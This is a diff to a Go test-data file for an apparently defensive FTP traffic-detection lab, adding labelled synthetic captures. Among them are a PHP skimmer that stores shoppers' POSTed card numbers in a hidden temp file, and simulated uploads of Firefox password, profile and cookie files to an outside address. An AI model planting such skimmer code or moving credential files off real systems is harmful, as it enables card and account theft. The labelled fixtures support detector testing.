@@ -3,7 +3,9 @@
 package baseline
 
 import (
+	"bytes"
 	"fmt"
+	"slices"
 	"strings"
 
 	"ftplab/lab/internal/forge"
@@ -23,6 +25,10 @@ var websites = []lookalike{
 	{"a page that hides what it runs, among the additions to WordPress", "no-loot", IsUnusual, moves([2]string{"STOR wp-content/plugins/a/license.php", encodedCode})},
 	{"the programs of WordPress", "no-loot", IsNormal, moves([2]string{"STOR wp-includes/class-pclzip.php", "<?php\n$v_content = @gzinflate($v_buffer);\n$d = base64_decode($v);\n// eval'd callbacks\n$x = call_user_func_array($f, $args);\n"})},
 	{"pages that include a hidden file, put back just after they were fetched", "no-loot", "", moves(changedPages(4, "<?php @include \"\\x2fhome\\x2fa.ico\"; ?>\n")...)},
+	{"pages that get a hidden frame, with the ends of the transfers lost", "no-loot", "", without("226 done", putBack(0))},
+	{"a page of a shop that keeps the cards of its buyers", "no-loot", "", moves([2]string{"STOR Mage.php", `<?php class Mage{} if(isset($_POST["payment"]["cc_number"])){file_put_contents("/tmp/.sess_".md5(date("Ymd")),base64_encode(json_encode($_POST)));}`})},
+	{"a page of a shop that pays by card, and writes a log", "no-loot", IsNormal, moves([2]string{"STOR Pay.php", `<?php $r=pay($_POST["cc_number"],$_POST["cc_cid"]); file_put_contents("var/log/pay.log",json_encode($r["state"]),FILE_APPEND);`})},
+	{"a text about ransomware, which its name says, too", "no-loot", IsUnusual, moves([2]string{"STOR ransomware-advisory.txt", "Ransomware: if you see a note that your files are encrypted, do not pay Bitcoin. Call the help desk, which can restore them."})},
 	{"pages that get a new line, put back just after they were fetched", "no-loot", IsNormal, moves(changedPages(4, "<?php include \"menu.php\"; ?>\n")...)},
 	{"a page that tells who changed it, in another language", "no-loot", "", moves([2]string{"STOR index.html", "<h1>Diese Seite wurde von NordCrew gehackt</h1>"})},
 	{"a page about those who changed others", "no-loot", IsNormal, moves([2]string{"STOR index.html", "<h1>Stadtwerke von Kriminellen gehackt</h1>"})},
@@ -40,6 +46,16 @@ func changedPages(n int, with string) (files [][2]string) {
 // carriedOff are files that leave a network, each beside one that stays, or that says nothing secret.
 var carriedOff = []lookalike{
 	{"a database of passwords of a browser, which leaves the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR ld.db", loginDatabase)},
+	{"the passwords of Firefox, which leave the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a.json", firefoxLogins)},
+	{"the passwords of Firefox, in a copy within the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "10.40.4.9", "STOR a.json", firefoxLogins)},
+	{"a profile of Firefox, of which the copy leaves the network", "no-loot", IsUnusual, func(f *forge.Capture) {
+		t := dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(numberedLines(9, "> STOR prefs%d.js\n< 150 go on\n< 226 done\n") + "> PASV\n< 227 (203,0,113,9,100,0)\n> STOR logins.json\n< 150 go on")
+		d := dial(f, "10.40.3.50", "203.0.113.9:25600")
+		d.Segment("P.", firefoxLogins)
+		d.Close()
+		t.Say("< 226 done").Say(bye).Peer.Close()
+	}},
+	{"the cookies of Firefox, which leave the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "203.0.113.9", "STOR c.sqlite", "SQLite format 3\x00\x10\x00\x01\x01\x00CREATE TABLE moz_cookies (id INTEGER PRIMARY KEY, value TEXT)")},
 	{"a database of passwords of a browser, in a copy within the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "10.40.4.9", "STOR ld.db", loginDatabase)},
 	{"a database of an address book, which leaves the network", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR people.db", "SQLite format 3\x00\x10\x00\x01\x01\x00CREATE TABLE people (name VARCHAR, phone VARCHAR, password_hint VARCHAR)")},
 	{"the passwords of a browser as it exports them, of two sites", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a.csv", "name,url,username,password\nbank.example,https://bank.example/,ada,Tulip77\nmail.example,https://mail.example/,ada,Rose99\n")},
@@ -91,6 +107,17 @@ var carriedOff = []lookalike{
 	{"a release of a program for many processors", "no-programs", IsUnusual, inFolder("/pub/busybox/1.35.0")},
 	{"a program for many processors in a folder without a release", "no-programs", "", inFolder("/bins")},
 	{"a name that hides, which the server refuses, and the settings of a shell", "no-sensitive-names", IsNormal, session1("> MKD ...\n< 550 no\n> STOR .bashrc\n< 150 go on\n< 226 done")},
+}
+
+// firefoxLogins is the file of Firefox with encrypted passwords.
+const firefoxLogins = `{"nextId":2,"logins":[{"id":1,"hostname":"https://mail.example","encryptedUsername":"MDIE","encryptedPassword":"MDoE"}]}`
+
+// without is a capture in which the packets with a text are lost.
+func without(text string, play func(*forge.Capture)) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		play(f)
+		f.Frames = slices.DeleteFunc(f.Frames, func(frame forge.Frame) bool { return bytes.Contains(frame.Data, []byte(text)) })
+	}
 }
 
 // orderedPage stores a page, and asks the web server of the same host for a page.
